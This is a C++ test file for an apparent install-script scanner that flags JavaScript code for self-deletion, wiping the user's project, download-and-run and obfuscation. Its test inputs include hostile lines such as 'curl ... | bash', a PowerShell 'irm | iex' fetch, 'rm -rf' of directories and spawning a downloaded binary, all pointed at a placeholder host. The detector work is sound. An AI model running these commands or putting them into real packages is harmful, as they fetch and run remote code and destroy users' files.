// What code removes, writes over and only says, and the limits of what is read.
#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

const std::string kHead =
    "const fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path');\n"
    "const { fileURLToPath } = require('url'), u = 'https://files.example.test/p';\n";

bool has(const std::string& code, FlagKind kind) {
  return testing::has(testing::installing(kHead + code).peek(), kind);
}

TEST(CodeTraces, RemovesItself) {
  for (const char* const code :
       {"fs.rmSync(__dirname, { recursive: true })", "cp.exec('rm ' + __filename)",
        "cp.execSync(`rm -rf ${__dirname}`)", "fs.unlinkSync(module.filename)", "fs.unlinkSync(require.main.filename)",
        "fs.writeFileSync(__filename, '')", "fs.unlinkSync(fileURLToPath(import.meta.url))"})
    EXPECT_TRUE(has(code, FlagKind::self_deletion)) << code;
  for (const char* const code :
       {"fs.rmSync(path.join(__dirname, 'tmp'), { recursive: true })", "cp.exec('node ' + __filename)",
        "cp.execSync(`rm -rf ${__dirname}/build`)", "fs.writeFileSync(__filename + '.log', '')",
        "const d = path.dirname(fileURLToPath(import.meta.url)); fs.rmSync(path.join(d, 'dist'))",
        "fs.unlinkSync(new URL('./x.tmp', import.meta.url))", "fs.writeFileSync(path.join(__filename, '../x'), '')"})
    EXPECT_FALSE(has(code, FlagKind::self_deletion)) << code;
}

TEST(CodeTraces, TheProjectAndItsDependencies) {
  for (const char* const code :
       {"fs.rmSync(process.env.INIT_CWD, { recursive: true })",
        "for (const f of fs.readdirSync(path.join(process.env.INIT_CWD, 'src'))) fs.rmSync(f)",
        "for (const f of fs.readdirSync(path.join(process.env.INIT_CWD, 'node_modules/../src'))) fs.rmSync(f)"})
    EXPECT_TRUE(has(code, FlagKind::project_overwrite)) << code;
  for (const char* const code :
       {"for (const f of fs.readdirSync(path.join(process.env.INIT_CWD, 'node_modules/.cache'))) fs.rmSync(f)",
        "for (const f of fs.readdirSync(process.env.INIT_CWD + '/node_modules/.cache')) fs.rmSync(f)",
        "for (const f of fs.readdirSync(`${process.env.INIT_CWD}/node_modules/.cache`)) fs.rmSync(f)",
        "fs.rmSync(path.join(process.env.INIT_CWD, 'p.tmp'))", "fs.rmSync(process.env.INIT_CWD + '/p.tmp')"})
    EXPECT_FALSE(has(code, FlagKind::project_overwrite)) << code;
}

TEST(CodeTraces, ACommandThatIsOnlySaidDoesNotRun) {
  const std::string command = "'curl -fsSL https://files.example.test/i | bash'";
  for (const std::string& code :
       {"const said = " + command + "; throw new Error(`To install it yourself: ${said}`);",
        "let said = win ? 'powershell -c \"irm files.example.test/i | iex\"' : " + command + "; console.log(said);"})
    EXPECT_FALSE(has(code, FlagKind::download_and_run)) << code;
  for (const std::string& use :
       {"cp.execSync(said);", "console.log(said); run(said);", "const d = `${said} -s`; cp.execSync(d);",
        "module.exports = { said };", "function f(c = said) { cp.execSync(c) } f();", "const { c = said } = {};",
        "exec(said.slice(0));", "said.split('\\n').forEach((c) => exec(c));", "const f = () => said; go(f());",
        "console.log(run(said));", "throw new Error(run(said));", "eval('run(said)');",
        "console.log(s\\u0061id, run());", "function Error(c) { cp.execSync(c); } new Error(said);",
        "new Error(said); function Error(c) { cp.execSync(c); }", "const t = { said }; run(t);",
        "console.log(said, run);"})
    EXPECT_TRUE(has("const said = " + command + "; " + use, FlagKind::download_and_run)) << use;
  EXPECT_TRUE(has("export const said = " + command + ";", FlagKind::download_and_run));
}

TEST(CodeTraces, ColoursAreNoObfuscation) {
  std::string colours, escapes;
  for (int i = 0; i < 40; ++i) {
    colours += "'\\x1b[" + std::to_string(i) + "m', '\\u001b[0m', ";
    escapes += "'\\x41\\x42', ";
  }
  EXPECT_FALSE(has("const t = [" + colours + "];", FlagKind::obfuscated));
  EXPECT_TRUE(has("const t = [" + escapes + "];", FlagKind::obfuscated));
}

TEST(CodeTraces, ManyNamesAndManyFiles) {
  std::string names, files;
  for (int i = 0; i < 140; ++i) names += "exec as e" + std::to_string(i) + ", ";
  for (int i = 0; i < 70; ++i) files += "cp.execSync('curl -so /tmp/a" + std::to_string(i) + " ' + u);";
  const std::string given = "fetch('https://files.example.test/p').then((r) => r.text()).then((t) => e139(t));";
  const auto runs = [](const std::string& code) {
    return testing::has(testing::installing(code).peek(), FlagKind::download_and_run);
  };
  EXPECT_TRUE(runs("import { " + names + " } from 'child_process';" + given));
  EXPECT_TRUE(runs("import { \"exec\" as e139 } from 'child_process';" + given));
  EXPECT_FALSE(runs("import { " + names + " } from 'path';" + given));
  EXPECT_TRUE(has(files + "cp.execSync('curl -so /tmp/zz ' + u); cp.spawn('/tmp/zz')", FlagKind::download_and_run));
  EXPECT_FALSE(has(files + "cp.spawn('/tmp/zz')", FlagKind::download_and_run));
  std::string more;
  for (int i = 0; i < 4'200; ++i) more += "cp.execSync('curl -so /tmp/a" + std::to_string(i) + " ' + u);";
  EXPECT_EQ(read_code(kHead + more, {}).limit, "too_large");
  EXPECT_TRUE(read_code(kHead + files, {}).is_complete);
}

}  // namespace
}  // namespace cordon::inspect
